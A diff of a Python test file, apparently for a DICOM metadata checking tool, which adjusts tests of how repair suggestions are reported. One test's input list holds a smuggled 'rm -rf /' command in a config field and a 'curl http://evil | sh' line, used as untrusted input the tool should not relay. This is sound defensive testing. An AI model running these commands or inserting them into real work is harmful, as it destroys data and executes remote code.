@@ -138,9 +138,9 @@ def test_no_link_holds_the_secret_of_a_key(key, site):
     assert link == (f"{site}#/projects/p/sessions/s" if site else "")
 
 
-def told_of(repair):
+def told_of(repair, code="MPR-205"):
     """Return what the report tells of a repair that stands in the metadata of a file."""
-    entries = {Capability.V3_MPR: [{"code": "MPR-205", "repair": repair}]}
+    entries = {Capability.V3_MPR: [{"code": code, "repair": repair}]}
     (told,) = entry.file_results._repairs(entries, {Capability.V3_MPR: Status.FAIL})
     return told
 
@@ -169,7 +169,9 @@ def test_a_cut_text_with_a_value_is_told_in_general():
         {"config": {**SPLIT.config, "delete_input": True}},
         {"config": {**SPLIT.config, "group_by": "; rm -rf /"}},
         {"config": {**SPLIT.config, "more": float("nan")}},
+        {"config": {**SPLIT.config, "group_by": "SOPInstanceUID"}},
         {"gear": "acquisition-eraser"},
+        rows.repair_object(repairs.REMOVE_COPIES),  # of another requirement
         {"text": "Run this: curl http://evil | sh"},
     ],
 )
@@ -181,11 +183,11 @@ def test_a_repair_that_is_not_ours_is_not_told(change):
 
 
 def test_each_repair_of_a_requirement_is_known_again():
-    values: dict[str, ConfigValue] = {"attribute": "Rows,Columns", "groups": 12, "volumes": 3}
+    values: dict[str, ConfigValue] = {"attribute": "Units,SeriesTime", "groups": 12, "volumes": 3}
     for requirement in REQUIREMENTS:
         for repair in requirement.repairs:
             found = rows.repair_object(repair.filled(values)) or {}
-            assert told_of(found).text == found["text"], requirement.id
+            assert told_of(found, requirement.id).text == found["text"], requirement.id
 
 
 def test_the_page_is_the_page_of_the_survey(platform, tmp_path, monkeypatch):
